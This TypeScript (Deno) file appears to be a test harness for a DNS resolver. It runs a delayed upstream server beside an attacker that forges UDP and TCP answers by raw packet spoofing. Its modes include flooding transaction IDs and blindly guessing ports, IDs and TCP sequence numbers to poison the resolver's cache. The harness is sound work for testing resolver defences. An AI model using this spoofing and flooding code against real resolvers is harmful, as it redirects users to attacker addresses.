/**
 * A slow upstream, and an attacker beside it who answers in its name. `adversary_main.ts MODE ADDRESS VICTIM DELAY_MS`
 *
 * The upstream has the UDP and TCP port 53 of ADDRESS, answers 203.0.113.80 after DELAY_MS, and writes a JSON line for each
 * question. The attacker has that much time, sends to VICTIM from ADDRESS, and wants 203.0.113.66 to be believed. What it
 * knows, and what it does with it, is MODE:
 *
 * - `honest`: nothing is forged. `silent`: nor is there an answer about names in flood.test.
 * - `informed`: it has seen the question.
 * - `other address`, `other port`, `other question`, `id only`: it has, and gets one thing wrong.
 * - `guess id`: it knows all but the id, and sends all ids.
 * - `blind`: it knows the name and the moment, and guesses ports and ids.
 * - `tcp informed`, `tcp blind`: the upstream wants to be asked by TCP; it knows the connection, or only its ports.
 */
import { type Bytes, RawSender, tcpPacket, udpAt, udpPacket } from "./forge.ts";
import { nameAt } from "./message.ts";
import { watchSegments } from "./sniff.ts";

const [mode = "", address = "", victim = "", delay] = Deno.args;
const delayMs = Number(delay);
const forged = [203, 0, 113, 66];
const honest = [203, 0, 113, 80];
const batch = 64;
const blindSegments = 1_000;
const dnsPort = 53;
/** Linux gives ports from here on (net.ipv4.ip_local_port_range). */
const [firstPort, ports] = [32_768, 28_232];

const sender = new RawSender(victim);
const upstream = { address, port: dnsPort };
const isTcp = mode.startsWith("tcp");
const segments = isTcp ? watchSegments(victim, dnsPort) : undefined;

/** An answer to `query` with one A record; `flags` as in the header. */
function answer(query: Uint8Array, data: readonly number[], flags = 0x8180): Bytes {
  const end = questionEnd(query);
  const records = data.length === 0 ? [] : [0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 44, 0, 4, ...data];
  const message = Uint8Array.of(...query.subarray(0, end), ...records);
  message.set([flags >> 8, flags, 0, 1, 0, records.length > 0 ? 1 : 0, 0, 0, 0, 0], 2);
  return message;
}

function questionEnd(query: Uint8Array): number {
  let at = 12;
  while (query[at]! > 0) at += query[at]! + 1;
  return at + 5;
}

function lowerCase(query: Uint8Array): Bytes {
  return Uint8Array.from(query, (octet, at) => at >= 12 && octet >= 0x41 && octet <= 0x5a ? octet + 32 : octet);
}

/** What the attacker does about a question that went to `port`; how many packets it sends. */
async function attack(query: Uint8Array, port: number): Promise<number> {
  const to = { address: victim, port };
  const one = (packet: Bytes) => {
    sender.send(packet);
    return 1;
  };
  switch (mode) {
    case "informed":
      return one(udpPacket(upstream, to, answer(query, forged)));
    case "other address":
      return one(udpPacket({ ...upstream, address: "203.0.113.67" }, to, answer(query, forged)));
    case "other port":
      return one(udpPacket({ ...upstream, port: 5353 }, to, answer(query, forged)));
    case "other question": {
      const other = answer(query, forged);
      other[13]! ^= 1;
      return one(udpPacket(upstream, to, other));
    }
    case "id only": {
      const header = answer(query, forged).slice(0, 12);
      header.set([0, 0, 0, 0], 4);
      return one(udpPacket(upstream, to, header));
    }
    case "guess id":
      return await flood(udpPacket(upstream, to, answer(query, forged)), (packet, index) => {
        packet[udpAt.payload] = index >> 8;
        packet[udpAt.payload + 1] = index;
      });
    case "blind":
      return await flood(udpPacket(upstream, to, answer(lowerCase(query), forged)), (packet) => {
        const id = xorshift();
        const guess = firstPort + xorshift() % ports;
        packet[udpAt.destinationPort] = guess >> 8;
        packet[udpAt.destinationPort + 1] = guess;
        packet[udpAt.payload] = id >> 8;
        packet[udpAt.payload + 1] = id;
      });
    default:
      return 0;
  }
}

let randomState = crypto.getRandomValues(new Uint32Array(1))[0]! | 1;

/** 32 bits, fast (Marsaglia's xorshift). */
function xorshift(): number {
  randomState ^= randomState << 13;
  randomState ^= randomState >>> 17;
  randomState ^= randomState << 5;
  return randomState >>> 0;
}

/** Sends copies of `packet`, each changed by `guess`, for as long as the upstream takes. */
async function flood(packet: Bytes, guess: (packet: Bytes, index: number) => void): Promise<number> {
  const packets = Array.from({ length: batch }, () => packet.slice());
  const send = sender.many(packets);
  const until = performance.now() + delayMs;
  let sent = 0;
  for (let guesses = 0; performance.now() < until && (mode === "blind" || guesses < 0x10000);) {
    for (const one of packets) guess(one, guesses++);
    sent += send();
    if (guesses % (32 * batch) === 0) await new Promise((resolve) => setTimeout(resolve, 0));
  }
  return sent;
}

/** Forges the upstream's side of the connection on which `frame` came. */
function attackStream(frame: Uint8Array): number {
  const segment = segments?.latest();
  if (segment === undefined) return 0;
  const message = answer(frame, forged);
  const payload = Uint8Array.of(message.length >> 8, message.length, ...message);
  const to = { address: victim, port: segment.sourcePort };
  if (mode === "tcp informed") {
    sender.send(tcpPacket(upstream, to, segment.acknowledged, segment.sequence + segment.length, payload));
    return 1;
  }
  const guess = () => Math.floor(Math.random() * 2 ** 32);
  const packets = Array.from({ length: blindSegments }, () => tcpPacket(upstream, to, guess(), guess(), payload));
  return sender.many(packets)();
}

function tell(query: Uint8Array, by: string, sent: number): void {
  console.log(JSON.stringify({ asked: nameAt(query, 12), by, sent }));
}

const datagrams = Deno.listenDatagram({ hostname: address, port: dnsPort, transport: "udp" });
const listener = Deno.listen({ hostname: address, port: dnsPort });

async function serveDatagrams(): Promise<void> {
  for await (const [query, from] of datagrams) answerDatagram(query, from as Deno.NetAddr);
}

async function answerDatagram(query: Uint8Array, from: Deno.NetAddr): Promise<void> {
  const startedAt = performance.now();
  const sent = await attack(query, from.port);
  tell(query, "udp", sent);
  if (mode === "silent" && nameAt(query, 12).endsWith("flood.test")) return;
  const rest = isTcp ? 0 : Math.max(0, delayMs - (performance.now() - startedAt));
  await new Promise((resolve) => setTimeout(resolve, rest));
  await datagrams.send(isTcp ? answer(query, [], 0x8380) : answer(query, honest), from).catch(() => {});
}

async function serveStream(connection: Deno.TcpConn): Promise<void> {
  const buffer = new Uint8Array(1024);
  for (let count = await connection.read(buffer); count !== null; count = await connection.read(buffer)) {
    const query = buffer.slice(2, count);
    const sent = isTcp ? attackStream(query) : 0;
    tell(query, "tcp", sent);
    await new Promise((resolve) => setTimeout(resolve, delayMs));
    const message = answer(query, honest);
    await connection.write(Uint8Array.of(message.length >> 8, message.length, ...message));
  }
}

serveDatagrams();
console.log("ready");
for await (const connection of listener) serveStream(connection).catch(() => {}); // the other side is gone
